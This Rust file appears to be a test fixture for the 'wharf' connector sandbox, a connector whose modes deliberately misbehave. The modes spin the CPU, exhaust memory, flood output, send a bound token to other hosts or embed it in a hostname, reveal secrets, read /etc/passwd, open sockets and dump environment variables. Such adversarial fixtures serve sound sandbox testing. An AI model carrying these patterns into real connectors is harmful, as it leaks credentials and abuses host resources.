//! A connector that misbehaves on request: the tests' adversary.
//!
//! `fetch` (and `check`) do what `config.attack` says: spin forever, eat
//! memory, recurse without end, return or log far too much, aim secrets at
//! hosts they are not bound to, reveal a secret not marked `reveal`, read
//! files, open sockets. Two benign modes (`echo`, `sleep`) let tests run a
//! well-behaved call beside a hostile one.

use std::hint::black_box;
use std::io::Write;

use serde::Deserialize;
use wharf_sdk::http::Request;
use wharf_sdk::prelude::*;

#[derive(Deserialize)]
pub struct Config {
    attack: String,
    #[serde(default)]
    url: String,
    #[serde(default)]
    addr: String,
    /// Where `send-secret` sends (default: `url`, the host the secret is bound to).
    #[serde(default)]
    target: Option<String>,
    #[serde(default)]
    n: u64,
}

const TOKEN: Secret = Secret::new("token");
const SIGNING_KEY: Secret = Secret::new("signing_key");

pub struct Hostile;

impl Connector for Hostile {
    type Config = Config;

    fn spec() -> Spec {
        Spec::new("hostile", "0.1.0")
            .description("Test fixture that attacks the sandbox")
            .role(Role::Source)
            .stream(StreamSpec::new("out"))
            .secret(
                SecretSpec::new("token")
                    .description("sent only to the bound host")
                    .host("{config.url}")
                    .optional(),
            )
            .secret(
                SecretSpec::new("signing_key")
                    .description("revealable")
                    .host("https://signing.example.com")
                    .revealable()
                    .optional(),
            )
            .host("{config.url}")
    }

    fn check(config: &Config) -> Result<()> {
        attack(config).map(|_| ())
    }

    fn fetch(config: &Config, _stream: &str, _cursor: Option<&str>) -> Result<Page> {
        attack(config)
    }
}

fn one(value: Value) -> Result<Page> {
    Ok(Page::last(vec![Record::from_value("out", value)?], None))
}

fn attack(config: &Config) -> Result<Page> {
    match config.attack.as_str() {
        "echo" => {
            let records = (0..config.n.max(1))
                .map(|i| Record::from_value("out", json!({ "i": i })).map(|r| r.key_from("i")))
                .collect::<Result<Vec<_>>>()?;
            Ok(Page::last(records, Some("done".into())))
        }
        "sleep" => {
            std::thread::sleep(std::time::Duration::from_millis(config.n));
            one(json!({ "slept_ms": config.n }))
        }
        "spin" => {
            let mut x = 0u64;
            loop {
                x = black_box(x.wrapping_add(1));
            }
        }
        "memory" => {
            let mut hoard: Vec<Vec<u8>> = Vec::new();
            loop {
                hoard.push(vec![1u8; 1 << 20]);
                black_box(&hoard);
            }
        }
        "recursion" => {
            let limit = if config.n == 0 { u64::MAX } else { config.n };
            one(json!({ "result": recurse(0, limit) }))
        }
        "huge-output" => {
            let blob = "x".repeat(config.n as usize);
            one(json!({ "blob": blob }))
        }
        "log-flood" => {
            for i in 0..config.n {
                wharf_sdk::info!("flood line {i}");
            }
            one(json!({ "logged": config.n }))
        }
        "print-flood" => {
            let mut out = std::io::stdout();
            for i in 0..config.n {
                if writeln!(out, "print line {i}").is_err() {
                    return Err(Error::Fatal(format!("stdout refused line {i}")));
                }
            }
            one(json!({ "printed": config.n }))
        }
        "panic" => panic!("hostile guest panicked on purpose"),
        "request" => {
            let resp = Request::get(&config.url).send()?;
            wharf_sdk::info!("upstream said: {}", resp.text());
            one(json!({ "status": resp.status, "body": resp.text(), "headers": resp.headers }))
        }
        "requests" => {
            let mut bytes = 0;
            for _ in 0..config.n.max(1) {
                bytes += Request::get(&config.url).send()?.body.len();
            }
            one(json!({ "requests": config.n.max(1), "bytes": bytes }))
        }
        "send-secret" => {
            let resp = Request::get(config.target.as_deref().unwrap_or(&config.url))
                .header_secret("X-Token", &TOKEN)
                .send()?;
            let body = resp.text();
            wharf_sdk::info!("upstream echoed: {body}");
            if resp.status >= 400 {
                return Err(Error::Fatal(format!("upstream refused: {body}")));
            }
            one(json!({ "status": resp.status, "body": body }))
        }
        "secret-in-url" => {
            let resp = Request::get(&config.url)
                .query_secret("token", &TOKEN)
                .send()?;
            one(json!({ "status": resp.status, "body": resp.text() }))
        }
        "secret-in-host" => {
            let url = format!("http://{}.example.com/", TOKEN.placeholder());
            let resp = Request::get(url).send()?;
            one(json!({ "status": resp.status }))
        }
        "reveal-token" => {
            let value = TOKEN.reveal()?;
            one(json!({ "token": value }))
        }
        "reveal-signing-key" => {
            let value = SIGNING_KEY.reveal()?;
            wharf_sdk::info!("signing with {value}");
            one(json!({ "len": value.len() }))
        }
        "open-file" => match std::fs::read_to_string("/etc/passwd") {
            Ok(text) => one(json!({ "passwd": text })),
            Err(e) => Err(Error::Fatal(format!("open /etc/passwd: {e}"))),
        },
        "write-file" => match std::fs::write("/tmp/wharf-escape", b"x") {
            Ok(()) => one(json!({ "wrote": true })),
            Err(e) => Err(Error::Fatal(format!("write /tmp/wharf-escape: {e}"))),
        },
        "tcp" => match std::net::TcpStream::connect(config.addr.as_str()) {
            Ok(_) => one(json!({ "connected": config.addr })),
            Err(e) => Err(Error::Fatal(format!("tcp connect {}: {e}", config.addr))),
        },
        "env" => one(json!({
            "env": std::env::vars().collect::<Vec<_>>(),
            "args": std::env::args().collect::<Vec<_>>(),
            "cwd": std::env::current_dir().ok().map(|p| p.display().to_string()),
            "time": std::time::SystemTime::now()
                .duration_since(std::time::UNIX_EPOCH)
                .map(|d| d.as_secs())
                .unwrap_or(0),
        })),
        other => Err(Error::Config(format!("unknown attack `{other}`"))),
    }
}

/// Recursion on scalars only, so every frame lives on the WebAssembly
/// stack (not Rust's shadow stack in linear memory) and `limit` (opaque to
/// the optimiser) keeps it from becoming a loop.
#[inline(never)]
fn recurse(n: u64, limit: u64) -> u64 {
    if n >= limit {
        return n;
    }
    recurse(n + 1, limit).rotate_left(1) ^ n
}

wharf_sdk::export_connector!(Hostile);
